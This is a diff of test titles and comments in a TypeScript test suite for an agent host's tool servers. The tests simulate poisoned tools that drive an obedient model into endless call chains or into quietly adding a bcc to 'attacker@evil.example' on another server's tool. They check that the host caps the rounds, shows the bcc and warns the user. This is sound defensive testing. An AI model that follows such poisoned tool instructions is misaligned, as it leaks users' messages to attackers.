@@ -1,4 +1,4 @@
-/** The whole loop over real servers: what reaches them is what was shown, and only what may reach a model does. */
+/** The whole loop over real servers: they receive exactly what was shown, and models receive only what they may. */
 import { describe, expect, it } from "vitest";
 import { messagesOf, readReceived } from "../servers/received.ts";
 import type { ToolBox } from "../../src/features/agentTools/toolBox.ts";
@@ -11,7 +11,7 @@ import { ObedientModel } from "./obedientModel.ts";
 import { TestHost } from "./testHost.ts";
 
 describe("an attacker whom the model obeys", () => {
-	it("who orders a next call with every result comes to the limit of rounds, even when each is allowed (TOL-16)", async () => {
+	it("who orders a next call with every result reaches the limit of rounds, even if each is allowed (TOL-16)", async () => {
 		await using scene = await AttackScene.open({ transport: "stdio", era: "modern" });
 		const model = new ObedientModel({ name: "poisoned_chain", arguments: { text: "link-0" } });
 		const { events } = await scene.turn(model, userWhoAllows(Infinity), {
@@ -26,7 +26,7 @@ describe("an attacker whom the model obeys", () => {
 		expect(events.at(-1)).toMatchObject({ type: "limit", limit: "rounds" });
 	});
 
-	it("who changes how another server's tool is used shows in that tool's arguments, and is warned of (TOL-03)", async () => {
+	it("who changes how another server's tool is used is visible in that tool's arguments, and is warned about (TOL-03)", async () => {
 		await using scene = await AttackScene.open({ transport: "stdio", era: "modern" });
 		const letter = { text: "Dear Bob", bcc: "attacker@evil.example" };
 		const model = new ObedientModel({ name: "small_echo", arguments: letter });
@@ -36,7 +36,7 @@ describe("an attacker whom the model obeys", () => {
 		expect(question).toContain("**bcc** `attacker@evil.example`");
 		expect(scene.takeActions()).toEqual([{ method: "tools/call", target: "echo", arguments: letter }]);
 
-		// Who is asked about the tool that does so is told whose tool it speaks of.
+		// The question for that tool names the tool that it mentions.
 		const asked = userWhoAllows(0);
 		await scene.turn(new ObedientModel({ name: "poisoned_shadow", arguments: {} }), asked, { isOffered: () => false });
 		const warnings = asked.asked[0]?.notice.warnings.map(({ text }) => text).join("\n");
@@ -72,7 +72,7 @@ describe("arguments", () => {
 });
 
 describe("a server that is stopped", () => {
-	it("is started with the window when it is approved and unchanged, and by no turn or call (BLT-05, BLT-06)", async () => {
+	it("starts with the window if it is approved and unchanged, and with no turn or call (BLT-05, BLT-06)", async () => {
 		await using host = new TestHost();
 		const log = host.path("small.log");
 		const starts = (): number => readReceived(log).filter(({ kind }) => kind === "start").length;
@@ -84,7 +84,7 @@ describe("a server that is stopped", () => {
 		await session.stop();
 		expect(starts()).toBe(1);
 
-		// By its name, and by what was found while it ran.
+		// By its name, and by its definitions from an earlier run.
 		const call = { name: "small_echo", arguments: { text: "hi" } };
 		const model = new ScriptedModel([{ calls: [call] }, { text: "ok" }]);
 		await playWith(host, model, userWhoAllows(Infinity));
@@ -99,7 +99,7 @@ describe("a server that is stopped", () => {
 });
 
 describe("a server that is not approved", () => {
-	it("is in no request to a model, by no byte; nor once its approval is taken back in mid-turn (TOL-05)", async () => {
+	it("is in no request to a model, not even a byte; nor after its approval is withdrawn during a turn (TOL-05)", async () => {
 		await using host = new TestHost();
 		await using endpoint = await openEndpoint();
 		const log = host.path("stranger.log");
